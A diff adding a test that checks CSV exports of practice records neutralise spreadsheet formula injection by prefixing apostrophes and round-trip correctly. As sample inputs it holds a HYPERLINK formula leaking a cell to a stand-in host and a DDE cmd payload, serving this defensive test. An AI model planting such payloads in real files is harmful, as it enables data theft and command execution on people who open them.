@@ -4,6 +4,7 @@ import { readdir } from 'node:fs/promises';
 import path from 'node:path';
 import { PassThrough } from 'node:stream';
 import { gunzipSync } from 'node:zlib';
+import { parse as parseCsv } from 'csv-parse/sync';
 import type { FastifyInstance } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildTestApp } from '../../../test/helpers/app.ts';
@@ -411,6 +412,85 @@ describe.each(dialects)('open-data exports on %s', (dialect: DialectName) => {
       // The page shows the newest.
       expect((await app.inject('/exports')).body).toContain('March 15, 2026');
     });
+  });
+});
+
+/** Cells a spreadsheet would run as formulas, in text fields of every kind. */
+const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open report")';
+const FORMULA_RECORD = {
+  external_id: 'formula-1',
+  title: FORMULA_TITLE,
+  language: 'en',
+  summary: "+cmd|' /C calc'!A0 and more words to make a summary",
+  country: 'FR',
+  city: 'Lyon',
+  themes: ['employment'],
+  start_year: 2019,
+  organisations: [{ name: '@SUM(A1:A9)', role: 'lead' }],
+  sections: { context: '-2+3 is what the context says', objectives: "'=1+1 quoted already" },
+  evidence_level: 'not-evaluated',
+};
+
+describe.each(dialects)('CSV exports opened in a spreadsheet on %s', (dialect: DialectName) => {
+  let database: TestDatabase;
+  let app: FastifyInstance;
+
+  beforeAll(async () => {
+    database = await createPreparedDatabase(dialect);
+    const report = await importPractices(database.db, values([FORMULA_RECORD]));
+    expect(report.problems).toEqual([]);
+    app = await buildTestApp(database);
+  });
+  afterAll(async () => {
+    await app.close();
+    await database.drop();
+  });
+
+  it('puts an apostrophe before every cell that would run as a formula, and imports it back as published', async () => {
+    const stored = await database.db
+      .selectFrom('practices')
+      .select('title')
+      .where('external_id', '=', 'formula-1')
+      .executeTakeFirstOrThrow();
+    expect(stored.title).toBe(FORMULA_TITLE);
+
+    const response = await app.inject('/api/v1/exports/practices.csv');
+    expect(response.statusCode).toBe(200);
+    // Quoted as CSV: the comma and the doubled quotes inside, the apostrophe first.
+    expect(response.body).toContain(
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open report"")"`,
+    );
+    expect(response.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const [row] = parseCsv(response.body, { columns: true }) as Record<string, string>[];
+    expect(row?.title).toBe(`'${FORMULA_TITLE}`);
+    expect(row?.summary).toBe(`'${FORMULA_RECORD.summary}`);
+    expect(row?.organisations).toBe("'@SUM(A1:A9)||lead");
+    expect(row?.['sections.context']).toBe("'-2+3 is what the context says");
+    expect(row?.['sections.objectives']).toBe("''=1+1 quoted already");
+    // Numbers the export writes itself stay numbers; the other formats hold the text unchanged.
+    expect(row?.start_year).toBe('2019');
+    const json = (await app.inject('/api/v1/exports/practices.json')).json() as PracticeRecord[];
+    expect(json[0]?.title).toBe(FORMULA_TITLE);
+
+    // Read back, the cells are the text that was published.
+    const target = await createPreparedDatabase(dialect);
+    try {
+      const imported = await importPractices(
+        target.db,
+        readCsv(PassThrough.from([Buffer.from(response.body)])),
+      );
+      expect(imported.problems).toEqual([]);
+      const [record] = ndjsonRecords(await cliExport(target.db, 'ndjson'));
+      expect(record).toMatchObject({
+        title: FORMULA_TITLE,
+        summary: FORMULA_RECORD.summary,
+        organisations: [{ name: '@SUM(A1:A9)', role: 'lead' }],
+        sections: FORMULA_RECORD.sections,
+      });
+      expect(await cliExport(target.db, 'csv')).toBe(response.body);
+    } finally {
+      await target.drop();
+    }
   });
 });
 
